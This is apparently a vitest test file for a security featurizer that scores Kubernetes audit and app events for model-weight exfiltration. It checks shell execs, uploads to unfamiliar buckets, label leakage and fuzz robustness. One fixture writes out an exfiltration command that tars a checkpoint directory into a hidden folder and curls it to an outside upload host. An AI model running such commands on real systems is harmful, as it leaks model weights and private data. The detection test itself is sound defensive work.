import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { DEFAULT_READER_LIMITS, type EventRecord } from '../core/records.js';
import { createAuditReader } from '../ingest/readers/k8s-audit.js';
import { RecordingSink, feed } from '../ingest/readers/k8s-audit-testkit.js';
import { EVENT_FEATURES, EVENT_FEATURE_COUNT, SEQUENCE_LENGTH, TrajectoryFeaturizer, buildFeatureContext, copySequenceWindow, trajectoryFeatureRows, trajectoryWindows } from './event-features.js';
import { SeededRandom } from './seeded-random.js';
import { syntheticSplit } from './synthetic-trajectories.js';

const FIXTURES = new URL('./fixtures/', import.meta.url);

function auditEvents(name: string): EventRecord[] {
  const sink = new RecordingSink();
  feed(createAuditReader(sink, DEFAULT_READER_LIMITS), readFileSync(new URL(name, FIXTURES)));
  expect(sink.quarantined).toEqual([]);
  return sink.events;
}

function features(events: readonly EventRecord[], ctx = buildFeatureContext(events)): Record<string, number>[] {
  const rows = trajectoryFeatureRows(events, ctx);
  return events.map((_, i) => Object.fromEntries(EVENT_FEATURES.map((n, k) => [n, rows[i * EVENT_FEATURE_COUNT + k]!])));
}

function appEvent(action: string, resource: string, attrs: Record<string, unknown>, ts = Date.UTC(2026, 0, 5, 6) * 1000): EventRecord {
  return { ts, source: 'app', actor: 'svc-ckpt-sync@corp.example', action, resource, namespace: 'ml', job: 'train-1', node: null, gpu: null, outcome: null, attrs, line: 1, offset: 0 };
}

describe('EVENT_FEATURES', () => {
  it('is a fixed list of unique names', () => {
    expect(new Set(EVENT_FEATURES).size).toBe(EVENT_FEATURE_COUNT);
    expect(EVENT_FEATURE_COUNT).toBe(63);
    expect(EVENT_FEATURES[0]).toBe('present');
  });
});

describe('TrajectoryFeaturizer on real audit events', () => {
  it('reads an interactive exec into a shell (falco exec_pod trace)', () => {
    const [f] = features(auditEvents('falco__exec_pod.json'));
    expect(f).toMatchObject({ present: 1, src_k8s_audit: 1, act_exec: 1, act_create: 0, res_pods_exec: 1, cmd_shell: 1, cmd_interactive: 1, actor_human: 1, actor_new: 1, src_ip_public: 0, gap_log: 0 });
    // 13:38:34.867 UTC → hour angle of 49114.867 s
    expect(f!.hour_sin).toBeCloseTo(Math.sin((2 * Math.PI * 49114.867116) / 86400), 5);
  });

  it('reads impersonation, denials, novelty and cadence (audit2rbac demo log)', () => {
    const events = auditEvents('audit2rbac__demo.log');
    const fs = features(events);
    expect(fs[0]).toMatchObject({ act_list: 1, res_pods: 1, out_denied: 1, actor_system: 1, actor_impersonated: 1, actor_new: 1 });
    expect(fs[1]!.actor_new).toBe(0);
    const gap = (events[1]!.ts - events[0]!.ts) / 1e6;
    expect(fs[1]!.gap_log).toBeCloseTo(Math.log1p(gap) / Math.log1p(86400), 5);
    for (let i = 1; i < fs.length; i++) expect(fs[i]!.distinct_resources_log).toBeGreaterThanOrEqual(fs[i - 1]!.distinct_resources_log!);
  });
});

describe('TrajectoryFeaturizer on app events and commands', () => {
  it('reads uploads, bytes and formats', () => {
    const up = appEvent('artifact_upload', '/tmp/out/model.gguf', { destination: 's3://tmp-share-0835/x/part-00', bytes: 6e8 });
    const exp = appEvent('model_export', '/tmp/out/model.safetensors', { format: 'safetensors', bytes: 3e9 });
    const [u, e] = features([up, exp], { destinationJobs: new Map([['bucket:corp-ml-checkpoints', 9]]) });
    expect(u).toMatchObject({ src_app: 1, act_artifact_upload: 1, res_file_path: 1, dest_present: 1, dest_public_host: 0, dest_unfamiliar: 1, fmt_gguf: 1, actor_service_account: 1 });
    expect(u!.bytes_log).toBeCloseTo(Math.log1p(6e8) / Math.log1p(1e12), 5);
    expect(e).toMatchObject({ act_model_export: 1, fmt_safetensors: 1, dest_present: 0 });
  });

  it('counts job-less events by actor, not as one job, when it judges a destination familiar', () => {
    const up = (job: string | null, actor: string) => ({ ...appEvent('artifact_upload', '/ckpt/model.pt', { destination: 's3://drop-bucket/x/model.pt' }), job, actor });
    // One job and one job-less actor: two trajectories send there, which is familiar (FAMILIAR_MIN_JOBS).
    expect(buildFeatureContext([up('a', 'svc-a'), up(null, 'mallory')]).destinationJobs.get('bucket:drop-bucket')).toBe(2);
    // Job-less uploads of three actors are three trajectories (before: one job '' for all of them).
    expect(buildFeatureContext([up(null, 'x'), up(null, 'y'), up(null, 'z')]).destinationJobs.get('bucket:drop-bucket')).toBe(3);
    // A job named like an actor's key is still another trajectory.
    expect(buildFeatureContext([up('actor:x', 'svc'), up(null, 'x')]).destinationJobs.get('bucket:drop-bucket')).toBe(2);
  });

  it('treats a bucket many jobs of the case use as familiar', () => {
    const shared = (job: string) => ({ ...appEvent('artifact_upload', '/ckpt/model.pt', { destination: 's3://corp-ml-checkpoints/ml/x/model.pt' }), job });
    const ctx = buildFeatureContext([shared('a'), shared('b'), shared('c')]);
    expect(features([shared('a')], ctx)[0]).toMatchObject({ dest_present: 1, dest_unfamiliar: 0, fmt_pt: 1 });
  });

  it('splits sh -c scripts into tools and finds public destinations in argv', () => {
    const exec = (command: string[]): EventRecord => ({
      ts: 1_700_000_000_000_000, source: 'k8s_audit', actor: 'system:serviceaccount:ml:trainer', action: 'create', resource: 'pods/exec', namespace: 'ml', job: 'ml/t', node: null, gpu: null, outcome: 'success',
      attrs: { subresource: 'exec', objectName: 't-0', exec: { command, container: 'c', stdin: false, tty: false }, sourceIPs: ['203.0.113.9'] }, line: 1, offset: 0,
    });
    const [a, b, c] = features([
      exec(['sh', '-c', 'mkdir -p /tmp/.c && tar czf /tmp/.c/b.tgz -C /mnt/ckpt . && curl -sS -T /tmp/.c/b.tgz https://upload.filedrop-cdn.net/u/x']),
      exec(['python3.11', 'convert_hf_to_gguf.py', '--outfile', '/tmp/m.gguf']),
      exec(['rclone', 'copy', '/tmp/p', 'remote:model-mirror-4412/x/']),
    ]);
    expect(a).toMatchObject({ act_exec: 1, actor_service_account: 1, cmd_shell: 1, cmd_archive: 1, cmd_network: 1, cmd_copy: 0, dest_present: 1, dest_public_host: 1, src_ip_public: 1, cmd_interactive: 0 });
    expect(b).toMatchObject({ cmd_python_convert: 1, fmt_gguf: 1, dest_present: 0 });
    expect(c).toMatchObject({ cmd_network: 1, dest_present: 1, dest_public_host: 0, dest_unfamiliar: 1 });
  });
});

describe('no label reaches a feature', () => {
  it('gives the same rows when labels and generator-only fields are added to the records', () => {
    const [sample] = syntheticSplit(11, 1, 1);
    const clean = trajectoryFeatureRows(sample!.events, buildFeatureContext(sample!.events));
    const tainted = sample!.events.map((e, i) => ({ ...e, malicious: sample!.labels[i], attrs: { ...e.attrs, label: sample!.labels[i], malicious: sample!.labels[i], phase: 'exfiltration', family: 'weight_exfil', t_start: 0 } }));
    expect(trajectoryFeatureRows(tainted, buildFeatureContext(tainted))).toEqual(clean);
  });
});

describe('sequence windows', () => {
  it('ends each window at its event and left-pads with absent rows', () => {
    const [sample] = syntheticSplit(12, 1, 0);
    const rows = trajectoryFeatureRows(sample!.events);
    const n = sample!.events.length;
    const windows = trajectoryWindows(rows);
    const stride = SEQUENCE_LENGTH * EVENT_FEATURE_COUNT;
    expect(windows.length).toBe(n * stride);
    // Window 0: 15 zero rows, then row 0.
    expect(windows.subarray(0, (SEQUENCE_LENGTH - 1) * EVENT_FEATURE_COUNT).every((v) => v === 0)).toBe(true);
    expect(Array.from(windows.subarray((SEQUENCE_LENGTH - 1) * EVENT_FEATURE_COUNT, stride))).toEqual(Array.from(rows.subarray(0, EVENT_FEATURE_COUNT)));
    // The last window is the last 16 rows.
    const out = new Float32Array(stride);
    copySequenceWindow(rows, n - 1, out, 0);
    expect(Array.from(out)).toEqual(Array.from(rows.subarray((n - SEQUENCE_LENGTH) * EVENT_FEATURE_COUNT, n * EVENT_FEATURE_COUNT)));
  });
});

describe('fuzz: hostile records', () => {
  it('never throws and keeps every feature finite and bounded', () => {
    const base = [...auditEvents('audit2rbac__demo.log'), ...auditEvents('falco__exec_pod.json'), ...syntheticSplit(13, 2, 1).flatMap((s) => s.events)];
    const rng = new SeededRandom(99);
    const junk: unknown[] = [null, 1e308, -1, Number.NaN, '', 'x'.repeat(5000), ['a', 'b'], { command: 'not-an-array' }, { command: [1, null, 'sh -c ' + 'curl '.repeat(500)] }, 's3://', '://', '[::1]:80', '999.1.1.1', 'user@:x', {}];
    const keys = ['exec', 'sourceIPs', 'userAgent', 'impersonatedUser', 'subresource', 'objectName', 'destination', 'bytes', 'format', 'url'];
    const f = new TrajectoryFeaturizer(buildFeatureContext(base));
    const out = new Float32Array(EVENT_FEATURE_COUNT);
    const bad: string[] = [];
    const t0 = Date.now();
    for (let iter = 0; iter < 4000; iter++) {
      const src = base[rng.int(base.length)]!;
      const e: EventRecord = { ...src, attrs: { ...src.attrs } };
      for (let m = 0; m < 3; m++) {
        const r = rng.float();
        if (r < 0.4) e.attrs[rng.pick(keys)] = rng.pick(junk);
        else if (r < 0.5) e.ts = rng.pick([0, -1e18, 1e18, Number.NaN, e.ts + 1]);
        else if (r < 0.6) e.actor = rng.pick([null, '', 'system:', 'system:serviceaccount:', 'svc-']);
        else if (r < 0.7) e.resource = rng.pick([null, '', '/', 'pods/', 'a://b', 'x'.repeat(3000)]);
        else if (r < 0.8) e.outcome = rng.pick([null, '403', '999', 'denied', '']);
        else if (r < 0.9) e.action = rng.pick(['', 'GET', 'exec', 'model_export', 'x'.repeat(100)]);
        else e.source = rng.pick(['app', 'k8s_audit'] as const);
      }
      f.next(e, out, 0);
      for (let k = 0; k < out.length; k++) {
        const v = out[k]!;
        if (!Number.isFinite(v) || Math.abs(v) > 1.5) bad.push(`${EVENT_FEATURES[k]}=${v} in ${JSON.stringify({ ...e, attrs: Object.keys(e.attrs) })}`);
      }
    }
    expect(bad.slice(0, 3)).toEqual([]);
    expect(Date.now() - t0).toBeLessThan(5000);
  });
});
